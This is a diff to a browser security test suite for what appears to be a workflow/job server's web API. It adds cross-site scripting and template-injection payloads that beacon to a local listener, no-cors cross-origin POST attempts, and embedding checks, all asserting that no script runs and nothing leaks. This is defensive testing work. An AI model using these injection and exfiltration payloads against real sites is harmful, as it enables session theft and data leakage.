@@ -6,11 +6,12 @@ import asyncio
 import json
 from collections.abc import Coroutine
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 
 from tests.rig.browser import HostileSite, Page, browser, hostile_site
-from tests.rig.serving import Server, chain
+from tests.rig.serving import Server, chain, n, workflow
 
 pytestmark = [pytest.mark.tool("chromium"), pytest.mark.slow]
 
@@ -31,7 +32,8 @@ for (const type of types) {
 for (const path of ["/v1/jobs", "/v1/outputs", "/v1/settings", "/metrics"])
   attempt("read " + path, fetch(target + path, {credentials: "include"})
     .then(answer => answer.text()).then(text => fetch("/leak?" + encodeURIComponent(text.slice(0, 200)))));
-attempt("beacon", navigator.sendBeacon(target + "/v1/queue/pause", "x"));
+attempt("beacon", navigator.sendBeacon(target + "/v1/queue/pause"));
+attempt("no body", fetch(target + "/v1/queue/pause", {method: "POST", mode: "no-cors", credentials: "include"}));
 for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
   const frame = document.createElement("iframe"); frame.name = "f" + type; document.body.append(frame);
   const form = document.createElement("form"); form.action = target + "/v1/jobs"; form.method = "POST";
@@ -55,6 +57,15 @@ SANDBOXED = """
 
 def attacked(body: Coroutine[Any, Any, None]) -> None:
     asyncio.run(body)
+
+
+async def opened_in_every_way(page: Page, server: Server, address: str) -> None:
+    """Go to an address, then embed it into our page; no script of it may run."""
+    await page.visit(f"{server.url}{address}")
+    assert await page.value("window.ran === undefined"), f"{address} ran a script when it was opened"
+    await page.open(f"{server.url}/")
+    await page.value(EMBEDDED.replace("ADDRESS", address))
+    assert await page.value("window.ran === undefined"), f"{address} ran a script in our page"
 
 
 async def signed_in(page: Page, server: Server) -> None:
@@ -162,6 +173,32 @@ HOSTILE_FILES = {
 }
 
 
+#: Asks for an address in every way that our own page could, if somebody got text into it: scripts are let pass by its
+#: policy where they are of this server, so here only the content's type and `nosniff` stand in the way.
+EMBEDDED = """
+new Promise(done => {
+  const made = trustedTypes.createPolicy("test", {createScriptURL: text => text});
+  const kinds = {script: "src", img: "src", video: "src", iframe: "src", embed: "src", object: "data", link: "href"};
+  let left = Object.keys(kinds).length;
+  for (const [name, attribute] of Object.entries(kinds)) {
+    const one = document.createElement(name);
+    if (name === "link") one.rel = "stylesheet";
+    one.onload = one.onerror = one.onloadstart = () => { if (--left <= 0) done(true); };
+    if (name === "script") one.src = made.createScriptURL("ADDRESS"); else if (name !== "embed" && name !== "object") one[attribute] = "ADDRESS";
+    if (name === "embed" || name === "object") { left--; one.setAttribute("type", "text/html"); }
+    document.body.append(one);
+  }
+  setTimeout(done, 500, false);
+})
+"""
+
+
+def hostile_name(beacon: str) -> str:
+    """What a script would be, wherever text became markup, a script or a template."""
+    run = f"window.ran=1,fetch('{beacon}')"
+    return f'<img src=x onerror="{run}"><script>{run}</script>${{alert(1)}}{{{{7*7}}}}\u202e\u200b'
+
+
 @pytest.mark.spec("R-N09")
 @pytest.mark.proves(19)
 def test_no_uploaded_file_runs_a_script_when_it_is_opened(server: Server) -> None:
@@ -171,21 +208,63 @@ def test_no_uploaded_file_runs_a_script_when_it_is_opened(server: Server) -> Non
             addresses = []
             for name, content in HOSTILE_FILES.items():
                 sent = server.request(
-                    "POST", "/v1/files", content.replace(b"BEACON", beacon.encode()),
+                    "POST", "/v1/files", content.replace(b"fetch(", b"window.ran=1,fetch(").replace(b"BEACON", beacon.encode()),
                     {"Content-Type": "application/octet-stream", "X-File-Name": name},
                 )  # fmt: skip
                 assert sent.status in (200, 201), sent.body
-                addresses.append(f"/v1/files/{sent.json['sha256']}")
+                addresses.append(f"/v1/files/{sent.json['sha256']}/content")
             async with browser() as page:
                 await signed_in(page, server)
                 for address in addresses:
                     answer = server.get(address)
+                    assert answer.status == 200
                     assert answer.headers["X-Content-Type-Options"] == "nosniff"
-                    await page.command("Page.navigate", url=f"{server.url}{address}")
-                    await page.until("document.readyState === 'complete'", f"{address} to be opened or refused")
-                    framed = f"new Promise(done => {{ const frame = document.createElement('iframe'); frame.onload = done; frame.onerror = done; frame.src = '{address}'; document.body.append(frame); setTimeout(done, 300); }})"
-                    await page.open(f"{server.url}/")
-                    await page.value(framed)
+                    assert answer.headers["Content-Security-Policy"].startswith("sandbox")
+                    await opened_in_every_way(page, server, address)
             assert site.heard == []
 
     attacked(body())
+
+
+@pytest.mark.spec("R-N10")
+@pytest.mark.proves(19)
+def test_no_name_or_text_runs_a_script_where_it_is_shown(server: Server) -> None:
+    """Titles, prompts, labels, clients, file names and messages, in every answer that a browser can be led to."""
+
+    async def body() -> None:
+        with hostile_site() as site:
+            beacon = f"http://127.0.0.1:{site.port}/leak"
+            text = hostile_name(beacon)
+            addresses = furnished(server, text)
+            async with browser() as page:
+                await signed_in(page, server)
+                for address in addresses:
+                    await opened_in_every_way(page, server, address)
+            assert site.heard == []
+
+    attacked(body())
+
+
+def furnished(server: Server, text: str) -> list[str]:
+    """Put the text wherever a text can be put; where it then stands."""
+    document = workflow(
+        {"text": "text.value", "picture": "save.file"},
+        text=n("text", value=text), paint=n("fake/paint", value=1.0), save=n("save_image", image="@paint.image"),
+    )  # fmt: skip
+    document |= {"name": text[:100], "description": text}
+    assert server.request("PUT", "/v1/workflows/hostile", document).status == 200
+    job = server.ended(server.submit("hostile", client="<script>alert(1)</script>")["id"])
+    failing = server.ended(server.submit(workflow(fail=n("fake/fail", value=1.0, message=text)), targets=["fail"])["id"])
+    assert (job["state"], failing["state"]) == ("done", "failed")
+    quoted = quote(text, safe="")
+    sent = server.request(
+        "POST", "/v1/files", text.encode(), {"Content-Type": "application/octet-stream", "X-File-Name": f"{quoted}.html"}
+    )
+    output = server.get("/v1/outputs").json["outputs"][0]["id"]
+    own, failed = f"/v1/jobs/{job['id']}", f"/v1/jobs/{failing['id']}"
+    return [
+        "/", "/v1/docs", "/v1/jobs", own, f"{own}/document", f"{own}/values/text/value", f"{own}/events", failed,
+        "/v1/workflows", "/v1/workflows/hostile", "/v1/workflows/hostile/file", "/v1/files", f"/v1/files/{sent.json['sha256']}",
+        f"/v1/outputs/{output}", f"/v1/outputs/{output}/file", f"/v1/outputs/{output}/workflow",
+        f"/v1/{quoted}", f"/v1/jobs?client={quoted}", f"/v1/nodes?{quoted}={quoted}",
+    ]  # fmt: skip
